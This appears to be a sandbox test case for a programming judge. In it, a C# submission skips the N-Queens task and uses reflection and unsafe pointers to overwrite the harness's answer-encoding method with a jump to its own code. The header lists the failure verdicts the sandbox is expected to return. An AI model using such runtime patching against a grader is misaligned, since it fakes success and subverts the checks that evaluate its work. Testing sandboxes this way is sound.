// expect: namespaces=WA|RTE|PE|WTL landlock=WA|RTE|PE|WTL limits=WA|RTE|PE|WTL
// judge: --fail-fast
// Finds the machine code with which the harness encodes answers, and puts a jump to its own in its place.
using System;
using System.Reflection;
using System.Runtime.CompilerServices;

class Imposter {
  public void Write(object value, object wanted) {
    Console.WriteLine("instead of the answer");
  }
}

static unsafe class Solution {
  static byte* CodeOf(MethodInfo method) {
    RuntimeHelpers.PrepareMethod(method.MethodHandle);
    return (byte*)method.MethodHandle.GetFunctionPointer();
  }

  public static string SolveNQueens(int n, (int, int) queen) {
    var encoder = Assembly.GetEntryAssembly().GetType("Judge.Harness.Encoder");
    var signature = Assembly.GetEntryAssembly().GetType("Judge.Harness.Signature");
    byte* target = CodeOf(encoder.GetMethod("Write", new[] { typeof(object), signature }));
    byte* mine = CodeOf(typeof(Imposter).GetMethod("Write"));
    target[0] = 0x48;  // mov rax, imm64
    target[1] = 0xB8;
    *(long*)(target + 2) = (long)mine;
    target[10] = 0xFF;  // jmp rax
    target[11] = 0xE0;
    return "";
  }
}
